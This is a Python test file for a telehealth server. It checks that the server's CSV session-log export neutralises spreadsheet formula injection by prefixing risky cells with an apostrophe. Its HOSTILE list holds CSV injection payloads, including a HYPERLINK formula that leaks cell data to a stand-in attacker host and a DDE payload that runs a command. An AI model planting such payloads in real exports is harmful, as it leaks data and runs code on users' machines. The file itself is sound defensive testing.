"""CSV exports opened in a spreadsheet: text that a spreadsheet would evaluate is written as text."""

from __future__ import annotations

import csv
import datetime as dt
import io

from aiohttp.test_utils import TestClient

from telehealth.domain import OrgLevel, Urgency
from telehealth.records.models import NewConsultation
from telehealth.server import keys
from telehealth.server.exports import neutral_cell
from tests.conftest import login

HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


async def test_the_session_log_export_writes_formulas_as_text(client: TestClient) -> None:  # type: ignore[type-arg]
    store = client.app[keys.STORE]  # type: ignore[index]
    doctor = await store.get_user_by_username("village1")
    home = await store.get_organisation(doctor.organisation_id)
    now = dt.datetime.now(dt.UTC)
    names: dict[int, str] = {}
    for name in [*HOSTILE, "Willow clinic - east"]:
        org = await store.insert_organisation(name, OrgLevel.village_clinic, alliance_id=home.alliance_id)
        consultation = await store.insert_consultation(NewConsultation(
            patient_name="Q", patient_sex="male", patient_birth_year=1950, patient_local_id="",
            specialty="cardiology", urgency=Urgency.routine, chief_complaint="c", consent_by="patient",
            consent_name="Q"), clinic_org_id=org.id, doctor_id=doctor.id, now=now, queue=True)
        names[consultation.id] = name
    await login(client, "alliance.admin")
    resp = await client.get("/admin/consultations.csv")
    assert resp.status == 200
    rows = {int(r[0]): r for r in list(csv.reader(io.StringIO(await resp.text())))[1:]}
    for cid, name in names.items():
        expected = name if name == "Willow clinic - east" else "'" + name
        assert rows[cid][2] == expected, (name, rows[cid])
        assert rows[cid][0] == str(cid)  # numbers are left as they are


def test_numbers_and_plain_text_pass_unchanged() -> None:
    assert neutral_cell(-3.5) == -3.5 and neutral_cell(-7) == -7 and neutral_cell("") == ""
    assert neutral_cell("cardiology") == "cardiology" and neutral_cell("2026-11-02T09:00:00+00:00")[0] == "2"
    assert [neutral_cell(v)[0] for v in HOSTILE] == ["'"] * len(HOSTILE)
